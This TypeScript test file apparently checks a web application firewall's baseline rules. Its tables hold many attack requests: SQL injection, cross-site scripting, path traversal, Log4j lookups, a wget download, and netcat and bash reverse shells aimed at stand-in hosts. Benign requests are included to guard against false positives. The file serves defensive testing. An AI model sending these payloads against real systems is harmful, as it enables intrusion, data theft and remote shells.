import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { createWaf } from '#inspectors/waf/waf.ts'
import { BASELINE_FOLDER, readBaseline } from '#signatures/sources/baseline.ts'
import { packBundle } from '#signatures/bundle/pack-bundle.ts'
import { checkRuleFiles } from '#signatures/check/check-rule-files.ts'
import { get, inspect, page, post, query } from './inspect.ts'

const FORM = 'application/x-www-form-urlencoded'
const waf = (paranoia: 1 | 2) =>
  createWaf({ mode: 'block', rulePaths: [BASELINE_FOLDER], settings: { paranoia } })
const levels = { 1: waf(1), 2: waf(2) }

/** Rule that must be the one to deny, and a request it denies. */
const ATTACKS: readonly (readonly [number, string, string])[] = [
  [880100, 'TRACE', get('/').replace('GET', 'TRACE')],
  [880101, 'HTTP/4.0', get('/').replace('HTTP/1.1', 'HTTP/4.0')],
  [
    880102,
    'two lengths',
    post(FORM, '0\r\n\r\n').replace(
      'Content-Length',
      'Transfer-Encoding: chunked\r\nContent-Length',
    ),
  ],
  [880103, 'an upgrade to h2c', get('/', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c')],
  [880104, 'httpoxy', get('/', 'Proxy: http://192.0.2.9:8080')],
  [880105, 'many ranges', get('/', `Range: bytes=${'0-1,'.repeat(25)}0-1`)],
  [880106, 'response splitting', get('/?to=%0d%0aSet-Cookie:%20a=b')],
  [880107, 'a NUL byte', get('/?file=a.php%00.png')],
  [880200, 'sqlmap', get('/').replace('Mozilla/5.0', 'sqlmap/1.8.2#stable')],
  [880201, 'a Git repository', get('/.git/config')],
  [880201, 'an environment file behind an odd path', get('/static//./%2eenv')],
  [880300, 'encoded dots in the path', get('/static/%2e%2e/%2e%2e/etc')],
  [880300, 'a path parameter', get('/app/..;/manager/html')],
  [880301, 'traversal in a parameter', query('../../../var/www/html/config')],
  [880302, 'the password file', query('/etc/passwd')],
  [880302, 'the password file in a body', post(FORM, 'file=..%2fetc%2f.%2fpasswd')],
  [880302, "Windows' win.ini", query('c:\\windows\\win.ini')],
  [880303, 'php://filter', query('php://filter/convert.base64-encode/resource=index')],
  [880303, 'gopher', query('gopher://127.0.0.1:6379/_x')],
  [880304, 'cloud metadata', query('http://169.254.169.254/latest/meta-data/')],
  [880400, 'cat of a file', query('x; cat /var/www/html/.htpw')],
  [880400, 'a download', query('|wget http://evil.test/x.sh')],
  [880400, 'netcat', query('`nc -e sh 192.0.2.1 4444`')],
  [880401, 'id', query('127.0.0.1; id')],
  [880401, 'a substitution', query('$(whoami)')],
  [880402, 'a TCP device of bash', query('x >& /dev/tcp/192.0.2.1/443 0>&1')],
  [880402, 'PowerShell', query('powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA')],
  [880403, 'Shellshock', get('/', 'Referer: () { :; }; echo')],
  [880404, 'Log4j', get('/', 'X-Api-Version: ${jndi:ldap://evil.test/a}')],
  [880404, 'Log4j in disguise', query('${${lower:j}ndi:${lower:l}dap://evil.test/a}')],
  [880405, 'Spring4Shell', post(FORM, 'class.module.classLoader.resources=x')],
  [880406, 'a Java object', query('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA')],
  [880406, 'a PHP object', query('O:8:"stdClass":1:{s:1:"a";i:1;}')],
  [880407, 'PHP', query('<?php system($_GET[1]); ?>')],
  [880408, 'Node.js', query("require('child_process').exec('x')")],
  [880409, 'prototype pollution', get('/?__proto__[admin]=1')],
  [880409, 'prototype pollution in JSON', post('application/json', '{"__proto__":{"admin":1}}')],
  [880500, 'a script element', query('<script>alert(1)</script>')],
  [880500, 'an event handler', query('"><img src=x onerror=alert(1)>')],
  [880501, 'a script in a cookie', get('/', 'Cookie: a=<script>alert(1)</script>')],
  [880600, 'a tautology', query("1' OR '1'='1")],
  [880600, 'UNION SELECT', query('1 UNION SELECT username, password FROM users')],
  [880601, 'UNION SELECT in a cookie', get('/', 'Cookie: id=1 union/**/all select 1,2')],
  [880602, 'a condition in a cookie', get('/', "Cookie: id=x' or '1'='1")],
  [880603, 'a delay in a cookie', get('/', 'Cookie: id=1 and sleep(5)')],
  [880604, 'a second statement in a cookie', get('/', 'Cookie: id=1%3B drop table users')],
  [880605, 'a MongoDB operator', post(FORM, 'user=admin&password[$ne]=x')],
  [880605, 'a MongoDB operator in JSON', post('application/json', '{"user":{"$gt":""}}')],
  [
    880701,
    'an external entity',
    post('application/xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>'),
  ],
]

const STRICT: readonly (readonly [number, string, string])[] = [
  [880910, 'a method of WebDAV', get('/').replace('GET', 'PROPFIND')],
  [880913, 'percent-encoding twice', get('/?a=%2541')],
  [880920, 'one step up', query('../images')],
  [880921, 'a form', query('<form action=//evil.test>')],
  [880923, 'a template', query('{{7*7}}')],
]

/** What people send. None of it may be denied at paranoia level 1. */
const BENIGN: Readonly<Record<string, string>> = {
  'a page': get('/products/42?sort=price&page=2'),
  'a name with an apostrophe': query("O'Brien & Sons"),
  'prose with SQL words': query('please select a union from the list and drop me a line'),
  'quotes and conjunctions': query('the "foo" or bar is good, and "tea" and milk like biscuits'),
  'a comparison in prose': query('price < 10 euros and rating > 4 stars'),
  'an inequality': query('x > 5'),
  'a relative link': query('../images/logo.png'),
  'a path that people write about': query('edit /etc/hosts and restart'),
  'commands in prose': query('how to use cat and ls in a shell; id cards'),
  'an e-mail': post(FORM, 'from=a%40example.test&subject=Re%3A+union+meeting&body=Hi%2C+it%27s+me'),
  'markup of an editor': post(FORM, 'html=%3Cp%3E%3Cb%3EHello%3C%2Fb%3E%3C%2Fp%3E'),
  JSON: post(
    'application/json',
    '{"query":"query { user(id: 1) { name } }","variables":{"a":[1,2]}}',
  ),
  XML: post('application/xml', '<order id="1"><item>tea &amp; milk</item></order>'),
  'a form with umlauts': post(FORM, 'name=J%C3%BCrgen+M%C3%BCller&city=K%C3%B6ln'),
  'a URL': query('https://example.test/a/b?c=d&e=f#g'),
  'a UUID': query('550e8400-e29b-41d4-a716-446655440000'),
  'a token': get('/', 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln'),
  'cookies of analytics': get('/', 'Cookie: _ga=GA1.2.123456789.1700000000; theme=dark; a=b%3Dc'),
  'a range of a video': get('/video.mp4', 'Range: bytes=0-1023'),
  'an upgrade to WebSocket': get('/chat', 'Connection: Upgrade', 'Upgrade: websocket'),
  'Markdown with code': post(FORM, 'text=Use+%60git+status%60+%26+%60git+log%60.'),
  'a Windows path': query('C:\\Users\\me\\Documents\\report.docx'),
  'an upload': post(
    'multipart/form-data; boundary=xYz',
    '--xYz\r\nContent-Disposition: form-data; name="f"; filename="cat.png"\r\n' +
      'Content-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\r\n--xYz--\r\n',
  ),
}

describe('baseline.conf', () => {
  test('is accepted whole, fits a bundle and has ids of its own range', async () => {
    const files = readBaseline()
    const report = checkRuleFiles(files)
    assert.deepEqual([report.rejected, report.rejections], [0, []])
    assert.ok(report.accepted > 90)
    assert.equal((await packBundle(files)).version.length, 16)
    const text = Buffer.from(files.find(({ path }) => path === 'baseline.conf')!.bytes).toString()
    const ids = [...text.matchAll(/\bid:(\d+)/g)].map((match) => Number(match[1]))
    assert.equal(new Set(ids).size, ids.length)
    assert.ok(ids.every((id) => id >= 880_000 && id <= 880_999))
  })

  for (const [id, name, request] of ATTACKS) {
    test(`${id} denies ${name}`, () => {
      const { kind, rules, error } = inspect(levels[1], request)
      assert.deepEqual({ kind, error }, { kind: 'block', error: null })
      assert.ok(rules.includes(id), `alerts of ${rules.join(', ')}`)
    })
  }

  for (const [id, name, request] of STRICT) {
    test(`${id} denies ${name}, at paranoia level 2 only`, () => {
      assert.deepEqual(inspect(levels[1], request).rules, [])
      const { kind, rules } = inspect(levels[2], request)
      assert.equal(kind, 'block')
      assert.ok(rules.includes(id), `alerts of ${rules.join(', ')}`)
    })
  }

  for (const [name, request] of Object.entries(BENIGN)) {
    test(`lets ${name} through`, () => {
      assert.deepEqual(inspect(levels[1], request), { rules: [], kind: 'pass', error: null })
    })
  }

  test('keys and password files do not leave', () => {
    const key = page('x\n-----BEGIN RSA PRIVATE KEY-----\nMIIE')
    const users = page('root:x:0:0:root:/root:/bin/bash\n')
    assert.deepEqual(inspect(levels[1], get('/'), key).rules, [880_800])
    assert.deepEqual(inspect(levels[1], get('/'), users).rules, [880_801])
    assert.equal(inspect(levels[1], get('/'), page('<p>rooted: 0:0</p>')).kind, 'pass')
  })

  test('error messages do not leave, at paranoia level 2 only', () => {
    const message = page('You have an error in your SQL syntax near')
    assert.equal(inspect(levels[1], get('/'), message).kind, 'pass')
    assert.deepEqual(inspect(levels[2], get('/'), message).rules, [880_930])
  })
})
